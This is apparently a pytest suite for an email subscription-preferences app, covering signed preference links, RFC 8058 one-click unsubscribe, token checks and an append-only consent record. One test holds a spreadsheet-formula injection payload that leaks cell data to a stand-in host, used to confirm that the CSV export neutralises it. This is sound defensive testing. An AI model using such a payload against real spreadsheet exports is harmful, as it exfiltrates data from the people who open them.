"""From the inbox: signed preference links, RFC 8058 one-click unsubscribe, the consent
record, and unsubscribe-all with its undo."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import threading
import time

import pytest
from itsdangerous import TimestampSigner, URLSafeTimedSerializer

from backend.database import Database
from backend.links import PREFERENCES
from tests.support import JANE, LINK_KEY, OMAR, csrf_of, links_for, path_of, switch_is_on

PATCHES = "/api/client/subscriptions/me"
SERVER_PATCHES = f"/api/client/users/{JANE}/subscriptions"


def consent(web):
    return web.app.extensions["consent"]


def transitions(web) -> set[tuple[int, int, int]]:
    """Jane's recorded changes: (type, old state, new state)."""
    return {(c.subscription_id, int(c.old), int(c.new)) for c in consent(web).recent(JANE)}


def fresh_client(web):
    """A browser that has never seen the site: no cookies."""
    return web.app.test_client()


def csrf_and_token(html: str) -> tuple[str, str]:
    csrf = csrf_of(html)
    token = re.search(r'data-token="([^"]+)"', html).group(1)
    return csrf, token


# -- the preference link ------------------------------------------------------------------


def test_a_preference_link_opens_the_page_in_a_browser_that_never_signed_in(linked) -> None:
    browser = fresh_client(linked)
    link = path_of(links_for().preferences)
    page = browser.get(link)
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "These are the preferences of j•••@example.com" in html
    assert "jane@example.com" not in html  # never the whole address
    assert 'href="/login?next=%2Fpreferences">Sign in</a>' in html
    assert "Sign out" not in html
    assert page.headers["Referrer-Policy"] == "no-referrer"
    assert page.headers["Cache-Control"] == "no-store"
    assert switch_is_on(html, 7) and not switch_is_on(html, 21)
    assert f'data-changes-url="{link}/"' in html
    assert f'data-mint-url="{link}/contact-session"' in html


def test_a_change_through_a_link_lands_in_spotzee_and_in_the_consent_record(linked) -> None:
    browser = fresh_client(linked)
    link = path_of(links_for().preferences)
    csrf, token = csrf_and_token(browser.get(link).get_data(as_text=True))
    response = browser.post(
        f"{link}/subscriptions/21",
        data={"previous_state": "0", "name": "In-app tips", "subscribed": "1"},
        headers={"HX-Request": "true", "X-CSRFToken": csrf, "X-Spotzee-User-Token": token},
    )
    assert response.status_code == 200
    assert "In-app tips: subscribed" in response.get_data(as_text=True)
    assert linked.sandbox.states()[21] == 1
    [recorded] = linked.app.extensions["consent"].recent(JANE)
    assert (recorded.subscription_id, recorded.source) == (21, "link")
    assert (int(recorded.old), int(recorded.new)) == (0, 1)


def test_a_link_renews_its_own_token_and_nothing_else(linked) -> None:
    browser = fresh_client(linked)
    link = path_of(links_for().preferences)
    csrf, _ = csrf_and_token(browser.get(link).get_data(as_text=True))
    minted = browser.post(f"{link}/contact-session", headers={"X-CSRFToken": csrf})
    assert minted.status_code == 200
    assert linked.sandbox.me(minted.json["token"]).json()["external_id"] == JANE
    # The link grants its own pages only, and never becomes a sign-in session.
    assert browser.post("/api/contact-session", headers={"X-CSRFToken": csrf}).status_code == 401
    assert browser.get("/preferences").status_code == 302
    with browser.session_transaction() as session:
        assert "_user_id" not in session


def test_a_link_shows_its_own_contact_whoever_is_signed_in(linked) -> None:
    linked.sign_in("omar@example.com")
    html = linked.client.get(path_of(links_for(JANE).preferences)).get_data(as_text=True)
    assert "j•••@example.com" in html and "Omar" not in html
    assert linked.client.get("/preferences").get_data(as_text=True).count("Hi Omar") == 1


# -- a token is spent on the contact it was handed out for, and no other ---------------------


def mix_up(linked, *, page: str, link_of: str) -> tuple[str, str]:
    """Signed in as Jane, holding Omar's preference link: the page to post to (`page`: her
    own, or his link's) and a token the app handed out for the other one (`link_of`)."""
    linked.sign_in()
    his = path_of(links_for(OMAR).preferences)
    linked.client.get(his)
    token = linked.token(his) if link_of == "omar" else linked.token()
    linked.seen = len(linked.sandbox.log())
    return (his if page == "omar" else "/preferences"), token


@pytest.mark.parametrize(("page", "link_of"), [("jane", "omar"), ("omar", "jane")])
def test_a_token_handed_out_for_another_contact_is_refused_unsent(linked, page, link_of) -> None:
    """Spotzee would make the change on the token's contact, and this page would record it
    as its own contact's: the relay refuses it as it refuses an expired token."""
    path, token = mix_up(linked, page=page, link_of=link_of)
    csrf = linked.csrf()
    response = linked.client.post(
        f"{path}/subscriptions/21",
        data={"csrf_token": csrf, "previous_state": "0", "subscribed": "1"},
        headers={"HX-Request": "true", "X-CSRFToken": csrf, "X-Spotzee-User-Token": token},
    )
    assert response.status_code == 401
    assert response.headers["X-Contact-Token-Rejected"] == "true"  # the script mints anew
    assert linked.upstream(PATCHES) == []
    assert linked.sandbox.states(JANE)[21] == linked.sandbox.states(OMAR)[21] == 0
    consent = linked.app.extensions["consent"]
    assert consent.recent(JANE) == consent.recent(OMAR) == []


def test_without_javascript_a_mixed_up_token_is_replaced_by_the_pages_own(linked) -> None:
    path, token = mix_up(linked, page="jane", link_of="omar")
    response = linked.client.post(
        f"{path}/subscriptions/21",
        data={"csrf_token": linked.csrf(), "previous_state": "0", "subscribed": "1",
              "contact_token": token},
    )  # fmt: skip
    assert response.status_code == 303
    assert linked.sandbox.states(JANE)[21] == 1 and linked.sandbox.states(OMAR)[21] == 0
    [recorded] = linked.app.extensions["consent"].recent(JANE)
    assert recorded.subscription_id == 21
    assert linked.app.extensions["consent"].recent(OMAR) == []


def test_a_token_minted_past_the_app_is_refused_even_for_the_right_contact(web) -> None:
    web.sign_in()
    csrf = web.csrf()
    response = web.client.post(
        "/preferences/subscriptions/21",
        data={"csrf_token": csrf, "previous_state": "0", "subscribed": "1"},
        headers={"HX-Request": "true", "X-CSRFToken": csrf,
                 "X-Spotzee-User-Token": web.sandbox.mint(JANE)},
    )  # fmt: skip
    assert response.status_code == 401
    assert web.upstream(PATCHES) == []


def test_the_session_keeps_the_latest_tokens_and_an_older_one_is_refused_once(web) -> None:
    """Each page load and renewal notes its token; past KEPT_PER_CONTACT the oldest goes,
    and a tab still holding it is refused once, mints, and carries on."""
    from backend.tokens import KEPT_PER_CONTACT

    web.sign_in()
    tokens = [web.token() for _ in range(KEPT_PER_CONTACT + 1)]
    csrf = web.csrf()

    def change(token: str, state: str):
        return web.client.post(
            "/preferences/subscriptions/21",
            data={"csrf_token": csrf, "previous_state": "0" if state == "1" else "1",
                  "subscribed": state},
            headers={"HX-Request": "true", "X-CSRFToken": csrf, "X-Spotzee-User-Token": token},
        )  # fmt: skip

    assert change(tokens[0], "1").status_code == 401
    assert change(tokens[1], "1").status_code == 200
    assert change(tokens[-1], "0").status_code == 200
    assert change(web.token(), "1").status_code == 200
    assert web.sandbox.states(JANE)[21] == 1


def test_a_session_that_opened_many_links_keeps_a_small_cookie(linked) -> None:
    """More contacts than are kept, each with more tokens than are kept: the cookie stays
    far from browsers' 4 KB, and the page being used still works."""
    from backend.tokens import HANDED_OUT, KEPT_CONTACTS, KEPT_PER_CONTACT

    others = [f"cust-many-{i}" for i in range(KEPT_CONTACTS + 1)]
    linked.sandbox.call(
        "POST", "/users/batch", json=[{"external_id": e, "locale": "fr-FR"} for e in others]
    )
    linked.sign_in()
    for external_id in others:
        link = path_of(links_for(external_id).preferences)
        linked.client.get(link)
        for _ in range(KEPT_PER_CONTACT):
            linked.token(link)
    token = linked.token()
    with linked.client.session_transaction() as kept:
        noted = kept[HANDED_OUT]
    assert [contact for contact, _ in noted] == [*others[-(KEPT_CONTACTS - 1) :], JANE]
    assert [len(prints) for _, prints in noted] == [KEPT_PER_CONTACT] * 3 + [1]
    assert len(linked.client.get_cookie("session").value) < 1500  # 975 bytes today
    csrf = linked.csrf()
    response = linked.client.post(
        "/preferences/subscriptions/21",
        data={"csrf_token": csrf, "previous_state": "0", "subscribed": "1"},
        headers={"HX-Request": "true", "X-CSRFToken": csrf, "X-Spotzee-User-Token": token},
    )
    assert response.status_code == 200


class LongAgo(TimestampSigner):
    """Signs as if it were 31 days ago."""

    def get_timestamp(self) -> int:
        return int(time.time()) - 31 * 86400


def test_a_links_page_whose_link_stopped_working_says_so_when_it_renews(linked) -> None:
    """Its token endpoint answers the 401 the script knows, and the page's words for that
    answer are about the link, not a sign-in it never had."""
    browser = fresh_client(linked)
    link = path_of(links_for().preferences)
    html = browser.get(link).get_data(as_text=True)
    assert "not saved. This link no longer works." in html
    assert "You&#39;ve been signed out" not in html
    assert "Sign in again" not in html  # nobody signed in here: the way on is "Sign in"
    expired = "/p/" + URLSafeTimedSerializer([LINK_KEY], salt=PREFERENCES, signer=LongAgo).dumps(
        {"c": JANE}
    )
    renewal = browser.post(f"{expired}/contact-session", headers={"X-CSRFToken": csrf_of(html)})
    assert renewal.status_code == 401
    tampered = browser.post(f"{link[:-3]}AAA/contact-session", headers={"X-CSRFToken": "x"})
    assert tampered.status_code == 401


@pytest.mark.parametrize(
    ("link", "status", "title"),
    [
        ("/p/" + "x" * 40, 400, "This link doesn"),
        (path_of(links_for().preferences)[:-3] + "AAA", 400, "This link doesn"),
        (
            "/p/"
            + URLSafeTimedSerializer([LINK_KEY], salt=PREFERENCES, signer=LongAgo).dumps(
                {"c": JANE}
            ),
            410,
            "This link has expired",
        ),
        (
            "/p/" + URLSafeTimedSerializer(["a-revoked-key"], salt=PREFERENCES).dumps({"c": JANE}),
            400,
            "This link doesn",
        ),
        (path_of(links_for(subscription_id=7).unsubscribe).replace("/u/", "/p/"), 400, "doesn"),
    ],
    ids=["garbage", "tampered", "expired", "revoked", "wrong-purpose"],
)
def test_a_bad_link_gets_a_friendly_page_that_says_nothing_about_the_contact(
    linked, link, status, title
) -> None:
    response = fresh_client(linked).get(link)
    assert response.status_code == status
    html = response.get_data(as_text=True)
    assert title in html and "Sign in" in html
    for secret in (JANE, "jane", "j•••"):
        assert secret not in html
    assert response.headers["Referrer-Policy"] == "no-referrer"
    assert linked.sandbox.log() == []


def test_every_link_expires_at_once_with_a_max_age_of_zero(make_web) -> None:
    web = make_web(LINK_SECRET_KEY=LINK_KEY, LINK_MAX_AGE_DAYS=0)
    assert fresh_client(web).get(path_of(links_for().preferences)).status_code == 410


def test_a_rotated_key_still_accepts_links_of_the_previous_one(make_web) -> None:
    web = make_web(LINK_SECRET_KEY="the-new-key", LINK_SECRET_KEY_PREVIOUS=LINK_KEY)
    assert fresh_client(web).get(path_of(links_for().preferences)).status_code == 200


def test_links_are_never_logged_whole(linked, caplog) -> None:
    signed = path_of(links_for().preferences).split("/")[-1]

    @linked.app.get("/p/<signed>/boom")
    def boom(signed: str) -> str:
        raise RuntimeError("boom")

    assert fresh_client(linked).get(f"/p/{signed}/boom").status_code == 500
    assert "/p/[signed]/boom" in caplog.text
    assert signed not in caplog.text


# -- one-click unsubscribe (RFC 8058) -----------------------------------------------------


def one_click_path(subscription_id: int = 7, external_id: str = JANE) -> str:
    return path_of(links_for(external_id, subscription_id=subscription_id).unsubscribe)


def test_the_email_headers_follow_rfc_8058() -> None:
    links = links_for(subscription_id=7)
    assert links.headers == {
        "List-Unsubscribe": f"<{links.unsubscribe}>",
        "List-Unsubscribe-Post": "List-Unsubscribe=One-Click",
    }
    assert links.unsubscribe.startswith("http://localhost/u/")


def test_fetching_a_one_click_link_changes_nothing(linked) -> None:
    page = fresh_client(linked).get(one_click_path())
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "Unsubscribe from Weekly newsletter?" in html
    assert 'name="List-Unsubscribe" value="One-Click"' in html
    assert "/p/" in html  # the way to the full preference page
    assert linked.sandbox.states()[7] == 1
    assert not [e for e in linked.sandbox.log() if e["method"] == "PATCH"]


def test_a_one_click_post_unsubscribes_once_and_a_repeat_changes_nothing_more(linked) -> None:
    mail_client = fresh_client(linked)  # no cookies, no CSRF token
    for _ in range(2):
        response = mail_client.post(
            one_click_path(), data={"List-Unsubscribe": "One-Click"}, follow_redirects=False
        )
        assert response.status_code == 200
        assert "You're unsubscribed" in response.get_data(as_text=True)
        assert "Set-Cookie" not in response.headers
    assert linked.sandbox.states()[7] == 0
    records = linked.app.extensions["consent"].recent(JANE)
    assert [(r.subscription_id, r.source) for r in records] == [(7, "one-click")]


def resubscribe(web, subscription_id: int = 7) -> None:
    """The customer turns the type on again (as the page would, with the server's key)."""
    answer = web.sandbox.call(
        "PATCH",
        f"/users/{JANE}/subscriptions",
        json=[{"subscription_id": subscription_id, "state": 1}],
    )
    assert answer.status_code == 200 and web.sandbox.states()[subscription_id] == 1


def test_a_one_click_link_used_again_after_turning_the_type_back_on_unsubscribes_again(
    linked,
) -> None:
    """Spotzee would replay the link's first unsubscribe (same Idempotency-Key) while the
    type is on again: that must not be answered "You're unsubscribed"."""
    mail_client = fresh_client(linked)
    for _ in range(3):
        answer = mail_client.post(one_click_path(), data={"List-Unsubscribe": "One-Click"})
        assert answer.status_code == 200 and "You're unsubscribed" in answer.get_data(as_text=True)
        assert linked.sandbox.states()[7] == 0
        resubscribe(linked)
    records = linked.app.extensions["consent"].recent(JANE)
    assert [(r.subscription_id, r.source) for r in records] == [(7, "one-click")] * 3


def test_one_click_speaks_the_customers_language_but_records_spotzees_name(linked) -> None:
    answer = fresh_client(linked).post(
        one_click_path(),
        data={"List-Unsubscribe": "One-Click"},
        headers={"Accept-Language": "es"},
    )
    assert "Boletín semanal" in answer.get_data(as_text=True)
    [record] = linked.app.extensions["consent"].recent(JANE)
    assert record.name == "Weekly newsletter"


def test_a_mail_clients_retry_is_the_same_operation_to_spotzee(linked) -> None:
    linked.sandbox.fault(method="PATCH", path="/subscriptions$", after=True, drop=True)
    mail_client = fresh_client(linked)
    answer = mail_client.post(one_click_path(), data={"List-Unsubscribe": "One-Click"})
    assert answer.status_code == 200  # the server client retried with the same key
    sent = [
        e for e in linked.sandbox.log() if e["path"] == SERVER_PATCHES and e["method"] == "PATCH"
    ]
    assert len({e["idempotency_key"] for e in sent}) == 1 and len(sent) == 2
    assert linked.sandbox.states()[7] == 0


def test_a_one_click_post_needs_the_one_click_body(linked) -> None:
    assert fresh_client(linked).post(one_click_path(), data={}).status_code == 400
    assert linked.sandbox.states()[7] == 1


def test_one_click_with_spotzee_down_is_a_503_to_retry_never_a_false_200(linked) -> None:
    linked.sandbox.fault(path="/api/client/", status=503, count=20)
    response = fresh_client(linked).post(one_click_path(), data={"List-Unsubscribe": "One-Click"})
    assert response.status_code == 503
    assert response.headers["Retry-After"]
    linked.sandbox.control("DELETE", "faults")
    assert linked.sandbox.states()[7] == 1
    assert linked.app.extensions["consent"].recent(JANE) == []


def test_a_one_click_link_is_not_a_preference_link(linked) -> None:
    preference = path_of(links_for().preferences).replace("/p/", "/u/")
    assert (
        fresh_client(linked).post(preference, data={"List-Unsubscribe": "One-Click"}).status_code
        == 400
    )


# -- the brand's tools ----------------------------------------------------------------------


def test_the_links_command_prints_what_an_email_carries(linked) -> None:
    cli = linked.app.test_cli_runner()
    result = cli.invoke(
        args=["links", "jane@example.com", "--subscription", "7", "--base-url", "https://p.example"]
    )
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[0].startswith("Preferences: https://p.example/p/")
    assert re.fullmatch(r"List-Unsubscribe: <https://p\.example/u/[^>]+>", lines[1])
    assert lines[2] == "List-Unsubscribe-Post: List-Unsubscribe=One-Click"
    by_id = cli.invoke(args=["links", OMAR, "--base-url", "https://p.example"])
    assert by_id.output.startswith("Preferences: https://p.example/p/")
    page = fresh_client(linked).get(
        path_of(lines[0].split(": ", 1)[1].replace("https://p.example", "http://localhost"))
    )
    assert page.status_code == 200


def test_the_links_command_says_when_an_email_is_no_customers(linked) -> None:
    result = linked.app.test_cli_runner().invoke(args=["links", "jane@exampel.com"])
    assert result.exit_code == 0
    assert "No customer has the email jane@exampel.com" in result.stderr
    assert result.stdout.startswith("Preferences: ")


# -- unsubscribe-all and undo ----------------------------------------------------------------


def htmx_post(web, path: str, data: dict, token: str | None = None):
    csrf = web.csrf()
    return web.client.post(
        path,
        data={"csrf_token": csrf, **data},
        headers={
            "HX-Request": "true",
            "X-CSRFToken": csrf,
            "X-Spotzee-User-Token": token or web.token(),
        },
    )


def test_undo_puts_back_exactly_what_unsubscribe_all_turned_off(web) -> None:
    web.sign_in()
    before = web.sandbox.states()
    assert (before[7], before[8]) == (1, 2)  # subscribed, and confirmed by double opt-in
    done = htmx_post(
        web,
        "/preferences/unsubscribe/email",
        {"subscription_id": ["7", "8"], "state_7": "1", "state_8": "2", "confirmed": "1"},
    )
    html = done.get_data(as_text=True)
    assert "All email: unsubscribed" in html and ">Undo</button>" in html
    assert 'name="restore_7" value="1"' in html and 'name="restore_8" value="2"' in html
    assert (web.sandbox.states()[7], web.sandbox.states()[8]) == (0, 0)
    undone = htmx_post(
        web,
        "/preferences/undo",
        {"subscription_id": ["7", "8"], "restore_7": "1", "restore_8": "2"},
    )
    assert undone.status_code == 200
    assert web.sandbox.states() == before
    assert len([e for e in web.sandbox.log() if e["path"] == PATCHES]) == 2  # one call each


def test_unsubscribe_all_records_and_undoes_what_spotzee_had_not_what_the_form_said(web) -> None:
    """The form was out of date (text messages turned on in another tab since): the type it
    showed off is turned off all the same, so the record says so, and Undo brings it back."""
    web.sign_in()
    web.sandbox.toggle(web.sandbox.mint(), [{"subscription_id": 12, "state": 1}])
    done = htmx_post(
        web,
        "/preferences/unsubscribe/all",
        {"subscription_id": ["7", "12"], "state_7": "1", "state_12": "0", "confirmed": "1"},
    )
    html = done.get_data(as_text=True)
    assert 'name="restore_12" value="1"' in html and 'name="restore_7" value="1"' in html
    assert transitions(web) == {(7, 1, 0), (12, 1, 0)}
    htmx_post(web, "/preferences/undo", {"subscription_id": ["12"], "restore_12": "1"})
    assert web.sandbox.states()[12] == 1
    assert (12, 0, 1) in transitions(web)


def test_an_undo_that_failed_is_offered_again(web) -> None:
    """Its button was in the live region the error answer fills: without it the customer
    would have to turn each switch back on by hand."""
    web.sign_in()
    web.sandbox.fault(method="PATCH", path="subscriptions/me", status=429)
    failed = htmx_post(
        web,
        "/preferences/undo",
        {"subscription_id": ["7", "8"], "restore_7": "1", "restore_8": "2"},
    )
    html = failed.get_data(as_text=True)
    assert failed.status_code == 503 and html.startswith(
        '<div class="notice notice-error">Undo: not saved.'
    )
    assert 'name="restore_7" value="1"' in html and 'name="restore_8" value="2"' in html
    assert 'id="undo-button" data-focus' in html


def test_a_channel_already_all_off_offers_no_unsubscribe(web) -> None:
    web.sign_in()
    html = web.client.get("/preferences").get_data(as_text=True)
    assert 'id="unsubscribe-push"' not in html and 'id="unsubscribe-in_app"' not in html
    assert 'id="unsubscribe-email"' in html and 'id="unsubscribe-all"' in html


def test_without_javascript_undo_is_offered_on_the_page_after_the_redirect(web) -> None:
    web.sign_in()
    csrf = web.csrf()
    done = web.client.post(
        "/preferences/unsubscribe/email",
        data={
            "csrf_token": csrf,
            "subscription_id": ["7", "8"],
            "state_7": "1",
            "state_8": "2",
            "confirmed": "1",
        },
    )
    assert done.status_code == 303
    page = web.client.get("/preferences").get_data(as_text=True)
    assert "All email: unsubscribed" in page and ">Undo</button>" in page
    web.client.post(
        "/preferences/undo",
        data={
            "csrf_token": csrf,
            "subscription_id": ["7", "8"],
            "restore_7": "1",
            "restore_8": "2",
        },
    )
    assert (web.sandbox.states()[7], web.sandbox.states()[8]) == (1, 2)


# -- the consent record ---------------------------------------------------------------------


def test_every_confirmed_change_is_recorded_once_with_its_source(linked) -> None:
    web = linked
    web.sign_in()
    htmx_post(web, "/preferences/subscriptions/21", {"previous_state": "0", "subscribed": "1"})
    web.client.post(
        "/preferences/subscriptions/15",
        data={"csrf_token": web.csrf(), "previous_state": "0", "subscribed": "1",
              "contact_token": web.token()},
    )  # fmt: skip
    htmx_post(
        web,
        "/preferences/unsubscribe/email",
        {"subscription_id": ["7", "8"], "state_7": "1", "state_8": "2", "confirmed": "1"},
    )
    htmx_post(web, "/preferences/undo", {"subscription_id": ["7"], "restore_7": "1"})
    fresh_client(web).post(one_click_path(7), data={"List-Unsubscribe": "One-Click"})
    web.sandbox.fault(method="PATCH", path="subscriptions/me", status=429)
    htmx_post(web, "/preferences/subscriptions/21", {"previous_state": "1"})  # not confirmed

    result = web.app.test_cli_runner().invoke(args=["consent", "export", "--format", "json"])
    rows = json.loads(result.output)
    assert [(r["subscription_id"], r["source"], r["old_state"], r["new_state"]) for r in rows] == [
        (21, "page", 0, 1),
        (15, "page-nojs", 0, 1),
        (7, "page", 1, 0),
        (8, "page", 2, 0),
        (7, "undo", 0, 1),
        (7, "one-click", 1, 0),
    ]
    assert all(r["external_id"] == JANE and r["request_id"].startswith("req_") for r in rows)
    assert all(re.fullmatch(r"[0-9a-f]{32}", r["client_hash"]) for r in rows)
    assert rows[0]["subscription_name"] == "In-app tips" and rows[0]["at"].endswith("Z")

    csv_rows = list(csv.DictReader(io.StringIO(web.app.test_cli_runner().invoke(
        args=["consent", "export", "--since", "2000-01-01"]).output)))  # fmt: skip
    assert [r["source"] for r in csv_rows] == [r["source"] for r in rows]
    later = web.app.test_cli_runner().invoke(args=["consent", "export", "--since", "2999-01-01"])
    assert later.output.strip() == ",".join(csv_rows[0].keys())  # the header alone


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(linked) -> None:
    """A one-click POST needs no cookie, so anyone holding the link chooses the User-Agent
    the record keeps: the CSV shows it as text, the JSON as it came."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    fresh_client(linked).post(
        one_click_path(7), data={"List-Unsubscribe": "One-Click"}, headers={"User-Agent": formula}
    )
    cli = linked.app.test_cli_runner()
    [row] = list(csv.DictReader(io.StringIO(cli.invoke(args=["consent", "export"]).output)))
    assert row["user_agent"] == "'" + formula
    assert (
        json.loads(cli.invoke(args=["consent", "export", "--format", "json"]).output)[0][
            "user_agent"
        ]
        == formula
    )


def test_the_page_shows_the_last_ten_changes(web) -> None:
    web.sign_in()
    for on in (True, False) * 6:
        htmx_post(
            web,
            "/preferences/subscriptions/21",
            {"previous_state": "0" if on else "1", **({"subscribed": "1"} if on else {})},
        )
    html = web.client.get("/preferences").get_data(as_text=True)
    recent = html[html.index("Recent changes") :]
    assert recent.count("<li>") == 10
    assert "In-app tips: unsubscribed" in recent and "on this page" in recent


def test_a_changes_answer_adds_its_line_to_recent_changes_out_of_band(web) -> None:
    web.sign_in()
    html = htmx_post(
        web, "/preferences/subscriptions/21", {"previous_state": "0", "subscribed": "1"}
    ).get_data(as_text=True)
    [added] = re.findall(r'<ul id="recent-list" hx-swap-oob="afterbegin">(.*?)</ul>', html, re.S)
    assert added.count("<li>") == 1 and "In-app tips: subscribed" in added
    # The list itself is the page's; the answer does not read the record back.
    assert "Recent changes" not in html
    # A change that changed nothing adds no line.
    same = htmx_post(
        web, "/preferences/subscriptions/21", {"previous_state": "1", "subscribed": "1"}
    ).get_data(as_text=True)
    assert "recent-list" not in same


def test_the_consent_record_is_append_only(linked) -> None:
    linked.sign_in()
    htmx_post(linked, "/preferences/subscriptions/21", {"previous_state": "0", "subscribed": "1"})
    conn = sqlite3.connect(linked.app.config["DATABASE"])
    for statement in ("UPDATE consent_records SET new_state = 0", "DELETE FROM consent_records"):
        with pytest.raises(sqlite3.IntegrityError, match="append-only"):
            conn.execute(statement)
    conn.close()


def test_the_database_switches_to_a_write_ahead_log_while_another_process_reads(tmp_path):
    """Gunicorn workers start together on one new database: the switch waits its turn.
    (The case SQLite answers "locked" at once, two processes each waiting on the other, is
    what write_ahead_log asks again for; it was seen one start in ten with three workers.)"""
    path = tmp_path / "app.sqlite3"
    other = sqlite3.connect(path, check_same_thread=False, isolation_level=None)
    other.execute("CREATE TABLE elsewhere (x)")
    other.execute("BEGIN")
    other.execute("SELECT * FROM elsewhere").fetchall()  # another process, mid-read
    threading.Timer(0.3, other.execute, ["COMMIT"]).start()
    Database(str(path))
    assert sqlite3.connect(path).execute("PRAGMA journal_mode").fetchone()[0] == "wal"
